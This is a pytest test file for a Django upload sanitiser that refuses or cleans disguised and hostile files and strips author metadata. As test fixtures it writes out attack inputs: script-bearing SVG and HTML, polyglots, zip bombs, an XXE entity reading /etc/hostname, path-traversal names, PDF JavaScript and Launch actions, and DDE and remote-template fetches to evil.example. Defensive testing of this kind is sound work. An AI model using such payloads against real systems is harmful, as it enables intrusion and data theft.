"""Evidence is what it says, small, clean and tells of nobody: whatever is wrong is refused in a sentence."""

import contextlib
import io
import socketserver
import struct
import threading
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from charter.applications import files, traces

_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_HTML = b"<!doctype html><script>alert(1)</script>"
_BROKEN_PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
CANARY = b"Canary Birdname"


def pdf(**save):
    """Return a PDF that says in every way it can who made it."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        page = made.add_blank_page(page_size=(200, 200))
        exif = Image.Exif()
        exif[0x013B] = CANARY.decode()
        photo = made.make_stream(picture(exif=exif))
        photo.Type, photo.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        photo.Width, photo.Height, photo.BitsPerComponent = 40, 30, 8
        photo.ColorSpace, photo.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
        page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
        page.obj.Contents = made.make_stream(b"q 40 0 0 30 0 0 cm /Im0 Do Q (What pupils read) Tj")
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, T=CANARY, Rect=[0, 0, 9, 9])
        page.obj.Annots = pikepdf.Array([made.make_indirect(note)])
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        made.docinfo["/Author"] = CANARY.decode()
        with made.open_metadata() as metadata:
            metadata["dc:creator"] = [CANARY.decode()]
        made.attachments["who.txt"] = CANARY
        made.save(out, **save)
    return out.getvalue()


def picture(format_name="JPEG", size=(40, 30), **options):
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, format_name, **options)
    return out.getvalue()


def office(ending, **parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if ending == "odt":
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
            archive.writestr("content.xml", "<words/>")
            archive.writestr("meta.xml", "<author>Canary Birdname</author>")
        else:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("word/document.xml", "<words/>")
            archive.writestr("docProps/core.xml", "<creator>Canary Birdname</creator>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def refused(name, content):
    with pytest.raises(ValidationError) as problem:
        files.cleaned(SimpleUploadedFile(name, content))
    assert str(problem.value.messages[0])
    return problem.value.code


LYING = {
    "HTML that says it is a picture": ("a.png", _HTML, "broken"),
    "SVG with a script": ("a.svg", _SVG, "kind"),
    "SVG that says it is a picture": ("a.png", _SVG, "broken"),
    "HTML": ("a.html", _HTML, "kind"),
    "HTML that says it is a PDF": ("a.pdf", _HTML, "not_what_it_claims"),
    "polyglot: HTML before a PDF": ("a.pdf", _HTML + _BROKEN_PDF, "not_what_it_claims"),
    "a program that says it is text": ("a.txt", b"MZ\x90\x00\x03\x00", "not_what_it_claims"),
    "a PDF that says it is a Word file": ("a.docx", _BROKEN_PDF, "broken"),
    "a zip that says it is a Word file": ("a.docx", office("odt"), "not_what_it_claims"),
    "a Word file with a macro": ("a.docx", office("docx", **{"word/vbaProject.bin": b"x"}), "macro"),
    "two endings": ("a.pdf.exe", _BROKEN_PDF, "kind"),
    "no ending": ("a", _BROKEN_PDF, "kind"),
    "a path and nothing else": ("../../etc/passwd", b"x", "kind"),
    "nothing": ("a.pdf", b"", "empty"),
    "a PDF with nothing in it": ("a.pdf", _BROKEN_PDF, "broken"),
    "half a picture": ("a.jpg", picture()[:80], "broken"),
}


@pytest.mark.parametrize(("name", "content", "code"), LYING.values(), ids=LYING)
def test_file_that_lies_is_refused(name, content, code):
    assert refused(name, content) == code


def test_too_large_a_file_is_refused_before_it_is_read(settings):
    settings.DOCUMENT_MAX_UPLOAD_SIZE = 1000
    assert refused("a.pdf", _BROKEN_PDF + b"\0" * 1000) == "file_too_large"


def test_zip_bomb_is_refused_before_it_fills_the_memory(monkeypatch):
    monkeypatch.setattr(files, "_MOST_UNPACKED", 1024 * 1024)
    assert refused("a.docx", office("docx", **{"word/media/a.xml": b"\0" * 5_000_000})) == "bomb"
    monkeypatch.setattr(files, "_MOST_PARTS", 5)
    assert refused("a.docx", office("docx", **{f"word/{number}": b"" for number in range(9)})) == "bomb"


def test_picture_that_unpacks_to_too_much_is_refused(settings):
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 1000
    assert refused("a.png", picture("PNG", (100, 100))) == "too_many_dots"


def test_picture_loses_where_and_by_whom_it_was_taken():
    exif = Image.Exif()
    exif[0x013B] = "Canary Birdname"
    kept = files.cleaned(SimpleUploadedFile("a.jpg", picture(exif=exif))).read()
    assert b"Canary" not in kept
    assert not Image.open(io.BytesIO(kept)).getexif()


@pytest.mark.parametrize("ending", ["docx", "odt"])
def test_office_file_loses_its_author_and_what_stands_before_it(ending):
    kept = files.cleaned(SimpleUploadedFile(f"a.{ending}", _HTML + office(ending))).read()
    assert kept.startswith(b"PK")
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Canary" not in everything
    assert b"<words/>" in everything


def everything_in(content):
    """Return all that a PDF says, unpacked."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as read:
        read.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.generalized)
    return out.getvalue()


def test_pdf_loses_its_author_in_every_place_and_keeps_what_is_read():
    made = pdf()
    assert everything_in(made).count(CANARY) >= 4, "The test has something to find."
    kept = files.cleaned(SimpleUploadedFile("a.pdf", made + b"<script>after the end</script>")).read()
    words = everything_in(kept)
    for gone in (CANARY, CANARY.decode().encode("utf-16-be"), b"JavaScript", b"OpenAction", b"after the end"):
        assert gone not in words, gone
    assert b"What pupils read" in words
    with pikepdf.open(io.BytesIO(kept)) as read:
        assert len(read.pages) == 1
        assert pikepdf.PdfImage(read.pages[0].get_images()["/Im0"]).as_pil_image().size == (40, 30)


def test_pdf_loses_what_stood_in_an_older_version_of_it():
    older = CANARY + b" was here"
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.make_indirect(pikepdf.String(older.decode()))
        made.save(out)
    assert older not in everything_in(files.cleaned(SimpleUploadedFile("a.pdf", out.getvalue())).read())


def test_pdf_loses_what_starts_programs_and_notes_that_stand_in_their_page():
    out = io.BytesIO()
    with pikepdf.new() as made:
        page = made.add_blank_page()
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="evil.exe")
        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/", Next=launch)
        note = pikepdf.Dictionary(Subtype=pikepdf.Name.Text, T=CANARY.decode(), Contents=CANARY.decode(), Rect=[0] * 4)
        words = pikepdf.Dictionary(Subtype=pikepdf.Name.FreeText, T=CANARY.decode(), Contents="Seen.", Rect=[0] * 4)
        starts, leads = (
            pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0] * 4, A=action) for action in (launch, link)
        )
        page.obj.Annots = pikepdf.Array([note, words, starts, leads])
        made.save(out)
    kept = everything_in(files.cleaned(SimpleUploadedFile("a.pdf", out.getvalue())).read())
    for gone in (CANARY, b"evil.exe", b"Launch"):
        assert gone not in kept, gone
    for stays in (b"https://example.org/", b"Seen."):
        assert stays in kept, stays


def test_locked_pdf_is_refused_in_its_own_words():
    locked = pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    assert refused("a.pdf", locked) == "locked"


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
)
RELATIONSHIPS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


def kept_parts(ending, **parts):
    """Return ``{name: words}`` of an office file as it is kept."""
    kept = files.cleaned(SimpleUploadedFile(f"a.{ending}", office(ending, **parts))).read()
    with zipfile.ZipFile(io.BytesIO(kept)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_word_file_loses_what_its_reader_does_not_see_and_keeps_the_rest():
    exif = Image.Exif()
    exif[0x013B] = CANARY.decode()
    name = CANARY.decode()
    kept = kept_parts(
        "docx",
        **{
            "word/comments.xml": f'<w:comments {W}><w:comment w:author="{name}" w:initials="CB">{name}</w:comment>'
            "</w:comments>",
            "word/people.xml": f'<w15:person w15:author="{name}"/>',
            "word/media/a.jpeg": picture(exif=exif),
            "docProps/thumbnail.jpeg": picture(comment=CANARY),
            "customXml/item1.xml": f"<who>{name}</who>",
            "_rels/.rels": f'<Relationships {RELATIONSHIPS}><Relationship Id="a" Target="docProps/thumbnail.jpeg" '
            'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail"/></Relationships>',
            "word/body.xml": f"<w:document {W}><w:p><w:r><w:t>We listen.</w:t></w:r>"
            f'<w:commentRangeStart w:id="0"/><w:del w:id="1" w:author="{name}"><w:r><w:delText>{name}</w:delText></w:r>'
            f'</w:del><w:ins w:id="2" w:author="{name}" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Every week.</w:t></w:r>'
            f"</w:ins><w:r><w:instrText>HYPERLINK</w:instrText></w:r>{'<w:moveFrom/>'}And more.</w:p></w:document>",
        },
    )
    everything = b"".join(kept.values())
    assert CANARY not in everything
    assert b"2026-01-01" not in everything
    assert "docProps/thumbnail.jpeg" not in kept
    assert b"thumbnail" not in kept["_rels/.rels"]
    for words in (b"We listen.", b"Every week.", b"HYPERLINK", b"And more."):
        assert words in kept["word/body.xml"]
    same = [Image.open(io.BytesIO(each)).getpixel((0, 0)) for each in (kept["word/media/a.jpeg"], picture())]
    assert same[0] == same[1]


def test_opendocument_file_loses_what_its_reader_does_not_see_and_keeps_the_rest():
    name = CANARY.decode()
    kept = kept_parts(
        "odt",
        **{
            "Thumbnails/thumbnail.png": picture("PNG"),
            "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<m:file-entry m:full-path="Thumbnails/thumbnail.png"/><m:file-entry m:full-path="content.xml"/>'
            "</m:manifest>",
            "styles.xml": f"<office:body {ODT}><text:tracked-changes><text:p>{name}</text:p></text:tracked-changes>"
            f"<text:p>We <office:annotation><dc:creator>{name}</dc:creator>{name}</office:annotation>listen.</text:p>"
            '<text:a xlink:href="https://example.org/">more</text:a><draw:image xlink:href="https://evil.example/a"/>'
            f"<dc:creator>{name}</dc:creator></office:body>",
        },
    )
    assert CANARY not in b"".join(kept.values())
    assert b"We listen." in kept["styles.xml"]
    assert b"https://example.org/" in kept["styles.xml"]
    assert b"evil" not in kept["styles.xml"]
    assert "Thumbnails/thumbnail.png" not in kept
    assert b"Thumbnails" not in kept["META-INF/manifest.xml"]
    assert b"content.xml" in kept["META-INF/manifest.xml"]


def test_word_file_fetches_nothing_when_an_assessor_opens_it():
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kept = kept_parts(
        "docx",
        **{
            "word/_rels/settings.xml.rels": f'<Relationships {RELATIONSHIPS}><Relationship Id="a" '
            f'TargetMode="External" Type="{kind}/attachedTemplate" Target="http://evil.example/t.dotm"/>'
            f'<Relationship Id="b" TargetMode="External" Type="{kind}/hyperlink" Target="https://example.org/"/></Relationships>',
            "word/settings.xml": f'<w:settings {W}><w:attachedTemplate w:val="a"/><w:zoom w:percent="9"/></w:settings>',
            "word/body.xml": f"<w:document {W}><w:instrText>INCLUDEPICTURE http://evil.example/</w:instrText>"
            '<w:fldSimple w:instr="DDEAUTO evil"/></w:document>',
        },
    )
    assert b"evil" not in b"".join(kept.values())
    assert b"https://example.org/" in kept["word/_rels/settings.xml.rels"]
    assert b"attachedTemplate" not in kept["word/settings.xml"]
    assert b"zoom" in kept["word/settings.xml"]


@pytest.mark.parametrize(
    "parts",
    [
        {"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'},
        {"word/a.xml": "<!DOCTYPE a><a/>"},
        {"word/a.xml": "<a>"},
        {"word/a.xml": "<?xml version='1.0' encoding='UTF-16'?><a/>"},
    ],
)
def test_word_file_with_xml_that_no_program_writes_is_refused(parts):
    assert refused("a.docx", office("docx", **parts)) == "odd"


@pytest.mark.parametrize("name", ["../../../../etc/pwn.txt", "/etc/pwn.txt", "word\\..\\a.xml", "C:/a.xml", "word/.."])
def test_word_file_with_a_part_that_lies_outside_of_it_is_refused(name):
    assert refused("a.docx", office("docx", **{name: b"x"})) == "broken"


def test_text_is_kept_as_it_is():
    assert files.cleaned(SimpleUploadedFile("a.txt", "Sea – é".encode())).read() == "Sea – é".encode()


@given(st.binary(max_size=200))
def test_whatever_a_jpeg_holds_nothing_breaks(content):
    assert traces.jpeg_without_notes(b"\xff\xd8" + content).startswith(b"\xff\xd8")


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\head\\plan.pdf", "plan.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("gnp.\u202efdp.exe", "gnp.fdp.exe"),
        ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
    ],
)
def test_name_loses_its_tricks(name, safe):
    assert files.safe_name(name) == safe


@given(st.text(max_size=300))
def test_whatever_a_name_is_it_becomes_a_plain_short_one(name):
    safe = files.safe_name(name)
    assert len(safe) <= 120
    assert "/" not in safe
    assert "\\" not in safe
    assert safe not in (".", "..")


@given(st.sampled_from([*files.CONTENT_TYPES, "svg", "zip"]), st.binary(max_size=400))
def test_whatever_a_file_is_it_is_kept_or_refused(ending, content):
    with contextlib.suppress(ValidationError):
        files.cleaned(SimpleUploadedFile(f"a.{ending}", content))


class _Clamd(socketserver.StreamRequestHandler):
    """Answers as clamd does: whatever holds EICAR is found."""

    def handle(self):
        self.rfile.read(len(b"zINSTREAM\0"))
        content = b""
        while length := struct.unpack("!L", self.rfile.read(4))[0]:
            content += self.rfile.read(length)
        answers = {b"EICAR": b"stream: Eicar-Test-Signature FOUND\0", b"HUGE": b"INSTREAM size limit exceeded. ERROR\0"}
        found = next((answer for word, answer in answers.items() if word in content), b"stream: OK\0")
        self.wfile.write(found)


@pytest.fixture
def clamd(settings):
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Clamd) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        settings.SCANNER = f"clamd://127.0.0.1:{server.server_address[1]}"
        yield
        server.shutdown()


def test_scanner_lets_a_clean_file_through_and_stops_another(clamd):
    assert files.cleaned(SimpleUploadedFile("a.txt", b"Clean.")).read() == b"Clean."
    assert refused("a.txt", b"EICAR") == "infected"
    assert refused("a.txt", b"HUGE") == "no_scanner"


def test_scanner_that_does_not_answer_lets_nothing_through(settings):
    settings.SCANNER = "clamd://127.0.0.1:9"
    assert refused("a.txt", b"Clean.") == "no_scanner"
    settings.SCANNER = "clamd:///nowhere/clamd.sock"
    assert refused("a.txt", b"Clean.") == "no_scanner"


def test_scanner_that_nobody_knows_is_said_to_the_operator(settings):
    settings.SCANNER = "magic"
    with pytest.raises(ImproperlyConfigured):
        files.cleaned(SimpleUploadedFile("a.txt", b"Clean."))


def test_text_that_windows_calls_unicode_is_kept_in_utf_8():
    upload = SimpleUploadedFile("minutes.txt", "We met – twice.".encode("utf-16"))
    assert files.cleaned(upload).read().decode() == "We met – twice."


def test_picture_with_too_many_dots_for_any_program_is_called_so():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", b"")
    with pytest.raises(ValidationError) as refused:
        files.cleaned(SimpleUploadedFile("huge.png", b"\x89PNG\r\n\x1a\n" + header))
    assert refused.value.code == "too_many_dots"
